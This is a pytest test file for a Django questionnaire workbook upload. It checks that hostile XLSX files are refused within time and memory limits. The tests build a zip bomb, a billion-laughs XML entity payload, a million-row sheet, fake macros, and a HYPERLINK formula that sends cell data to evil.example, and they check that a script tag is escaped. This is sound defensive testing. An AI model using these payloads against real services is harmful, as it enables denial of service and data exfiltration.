"""What is no workbook of ours is refused in words, in seconds, in little memory; and nothing is stored."""

import io
import resource
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation
from pytest_django.asserts import assertContains

from assessment.exchange.workbook import ABOUT
from tests.factories import make_assessment, make_company
from tests.workbook.books import Book, downloaded, stored, upload

SECONDS, MEGABYTES = 10, 256
# A process without Django, so that what it reports is what reading took.
READ = """
import resource, sys
from spreadsheets.uploads import UploadRefusedError, read_sheets
try:
    read_sheets(sys.stdin.buffer.read(), name="a.xlsx")
except UploadRefusedError:
    pass
[own] = [line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM")]
print(own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""


def work():
    """Seconds of work, of this process and its children: on a busy machine, waiting for a turn is not work."""
    return sum(sum(resource.getrusage(who)[:2]) for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN))


@pytest.fixture
def assessment(person):
    return make_assessment(
        company=make_company(member=person, sub_sector="cdmo", size="small", activities=["manufacturing"])
    )


@pytest.fixture
def book(signed_in, assessment):
    book = downloaded(signed_in, assessment)
    book.fill("STR.VIS.1", "2")
    return book


def repacked(content, *, replaced=None, extra=None):
    """The same archive with parts replaced or added; ``replaced`` maps a part’s name to what its bytes become."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            change = (replaced or {}).get(entry.filename)
            part = old.read(entry)
            new.writestr(entry.filename, change(part) if change else part)
        for name, part in (extra or {}).items():
            new.writestr(name, part)
    return target.getvalue()


def with_rows(count):
    """A sheet of ours with a million rows more, each of them short."""

    def widened(part):
        rows = b"".join(b'<row r="%d"><c t="n"><v>1</v></c></row>' % row for row in range(1000, 1000 + count))
        return part.replace(b"</sheetData>", rows + b"</sheetData>")

    return widened


def formula(book):
    book.cell("STR.VIS.1").value = "=1+1"
    return book.saved()


def link_formula(book):
    book.cell("STR.VIS.1", "comment").value = '=HYPERLINK("http://evil.example?x="&A1,"click")'
    return book.saved()


def wrong_sheet(book):
    strange = openpyxl.Workbook()
    strange.active.append(["STR.VIS.1", "", "", "", "2"])
    return saved(strange)


def without_questions(book):
    for sheet in book.workbook.worksheets:
        if not sheet.title.startswith("_"):
            sheet.delete_rows(1, sheet.max_row)
    return book.saved()


def of_another(name, value):
    def changed(book):
        for row in book.workbook[ABOUT].iter_rows():
            if row[0].value == name:
                row[1].value = value
        return book.saved()

    return changed


def moved_column(book):
    book.workbook[book.cell("STR.VIS.1").parent.title].insert_cols(2)
    return book.saved()


def copied_sheet(book):
    book.workbook.copy_worksheet(book.cell("STR.VIS.1").parent)
    return book.saved()


def renamed_column(book):
    book.cell("STR.VIS.1").parent.cell(row=3, column=5).value = "Réponse"
    return book.saved()


def lost_question(book):
    """The rows of the choices stay; the row of their question has lost its code."""
    book.cell("OPS.CYB.1", "code").value = None
    return book.saved()


def strange_choice(book):
    book.cell("OPS.CYB.1/drill", "code").value = "OPS.CYB.1/dril"
    return book.saved()


def repeated_choice(book):
    book.cell("OPS.CYB.1/drill", "code").value = "OPS.CYB.1/backup"
    return book.saved()


def endless_revision(book):
    book.workbook[ABOUT].append(["revision", "STR.VIS.1", "9" * 30_000])
    book.fill("STR.VIS.1", "?")
    return book.saved()


def saved(workbook):
    target = io.BytesIO()
    workbook.save(target)
    return target.getvalue()


def bomb(book):
    return repacked(book.saved(), extra={"xl/media/bomb.bin": b"\0" * 200_000_000})


def million_rows(book):
    return repacked(book.saved(), replaced={"xl/worksheets/sheet2.xml": with_rows(1_000_000)})


def dimension_lie(book):
    lie = [b'ref="A1:H7"', b'ref="A1:XFD1048576"']
    return repacked(book.saved(), replaced={"xl/worksheets/sheet2.xml": lambda part: part.replace(*lie)})


def laughs(book):
    entities = b"".join(
        b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10 if level else b"ha" * 10) for level in range(10)
    )
    doctype = b"<!DOCTYPE x [" + entities + b"]>"
    return repacked(
        book.saved(),
        replaced={
            "xl/worksheets/sheet2.xml": lambda part: doctype + part.replace(b"<v>", b"<v>&l9;", 1),
        },
    )


def protected(book):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def macros(book):
    return repacked(book.saved(), extra={"xl/vbaProject.bin": b"Attribute VB_Name"})


def nested(book):
    return repacked(book.saved(), extra={"xl/inner.zip": b"PK\x03\x04"})


HOSTILE = [
    (formula, "holds a formula. Paste its value instead."),
    (link_formula, "holds a formula. Paste its value instead."),
    (wrong_sheet, "This is not a workbook of this questionnaire."),
    (without_questions, "No question was found in this workbook."),
    (of_another("version", "2025.9"), "This workbook is of questionnaire small, version 2025.9; the assessment is of"),
    (of_another("questionnaire", "another"), "This workbook is of questionnaire another, version 1; the assessment"),
    (of_another("checksum", "sha256:0"), "This workbook is of questionnaire small, version 1; the assessment is of"),
    (of_another("format", "2"), "This is not a workbook of this questionnaire."),
    (moved_column, "The columns of this sheet were moved or renamed."),
    (renamed_column, "The columns of this sheet were moved or renamed."),
    (lost_question, "This row is not where it belongs."),
    (strange_choice, "This row is not where it belongs."),
    (repeated_choice, "This row appears twice in the workbook: keep one."),
    (endless_revision, "Choose one of the answers in the drop-down list."),
    (copied_sheet, "This row appears twice in the workbook: keep one."),
    (bomb, "archive is too large or malformed."),
    (million_rows, "The file has more than 5000 rows."),
    (laughs, "The file cannot be read."),
    (protected, "The workbook is protected by a password, or in the old XLS format."),
    (macros, "The workbook holds macros. Save it as XLSX without macros."),
    (nested, "archive is too large or malformed."),
    (lambda book: book.saved()[:2000], "The file is not an XLSX workbook."),
    (lambda book: b"STR.VIS.1;2", "The file is not an XLSX workbook."),
    (lambda book: b"\0" * 6_000_000, "The file is larger than 5 MB."),
    (lambda book: b"", "The file is empty."),
]


@pytest.mark.parametrize(("make", "message"), HOSTILE, ids=[message[:40] for _make, message in HOSTILE])
def test_it_is_refused_in_words_within_the_limits(signed_in, assessment, book, make, message):
    content = make(book)
    before = work()

    response = upload(signed_in, assessment, content)

    taken = work() - before
    assert (response.status_code, stored(assessment)) == (422, {})
    assertContains(response, message, status_code=422)
    assert taken < SECONDS


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="the system does not say what a process took")
@pytest.mark.parametrize("make", [bomb, million_rows, dimension_lie, laughs])
def test_neither_the_process_that_reads_it_nor_the_one_that_asks_takes_much_memory(signed_in, assessment, book, make):
    finished = subprocess.run([sys.executable, "-c", READ], input=make(book), capture_output=True, check=True)

    peaks = [int(kilobytes) / 1024 for kilobytes in finished.stdout.split()]
    assert [peak for peak in peaks if not 5 < peak < MEGABYTES] == []


@pytest.mark.parametrize("name", ["answers.xlsm", "answers.xls", "answers.csv", "answers", "xlsx", "answers.xlsx.exe"])
def test_another_kind_of_file_is_refused_by_its_name(signed_in, assessment, book, name):
    response = upload(signed_in, assessment, book.saved(), name=name)

    assertContains(response, "Send an Excel workbook whose name ends in .xlsx", status_code=422)


def test_a_claim_of_a_million_rows_that_are_not_there_is_no_harm(signed_in, assessment, book):
    response = upload(signed_in, assessment, dimension_lie(book))

    assert [change.question.code for change in response.context["foreseen"].changes] == ["STR.VIS.1"]


def test_sending_nothing_says_what_to_do(signed_in, assessment):
    response = signed_in.post(reverse("assessment_workbook", args=[assessment.pk]), {"x": "y"})

    assertContains(response, "Choose the workbook to send.", status_code=422)


def test_a_workbook_made_in_french_is_read_by_an_english_page(signed_in, assessment):
    with translation.override("fr"):
        book = Book(signed_in.get(reverse("assessment_workbook_file", args=[assessment.pk])).content)
    book.fill("STR.VIS.1", "2 – Elle a des responsables et un budget.")

    response = upload(signed_in, assessment, book.saved())

    assert response.context["foreseen"].changes[0].entry.value == {"choices": ["2"]}


def test_a_text_corrected_while_the_workbook_is_out_does_no_harm(signed_in, assessment, book):
    book.fill("STR.VIS.1", "2 – It has owners, a budget and dates.")

    response = upload(signed_in, assessment, book.saved())

    assert response.context["foreseen"].changes[0].entry.value == {"choices": ["2"]}


def test_dates_and_figures_that_a_spreadsheet_makes_of_texts_are_taken_as_typed(signed_in, assessment, book):
    book.fill("STR.VIS.1", date(2026, 6, 8), "evidence")
    book.fill("STR.VIS.1", 12.5, "comment")

    response = upload(signed_in, assessment, book.saved())

    entry = response.context["foreseen"].changes[0].entry
    assert (entry.comment, entry.evidence) == ("12.5", "2026-06-08")


def test_what_the_file_says_is_shown_as_text(signed_in, assessment, book):
    book.fill("STR.VIS.1", "<script>alert(1)</script>", "comment")

    response = upload(signed_in, assessment, book.saved())

    assertContains(response, "&lt;script&gt;alert(1)&lt;/script&gt;")
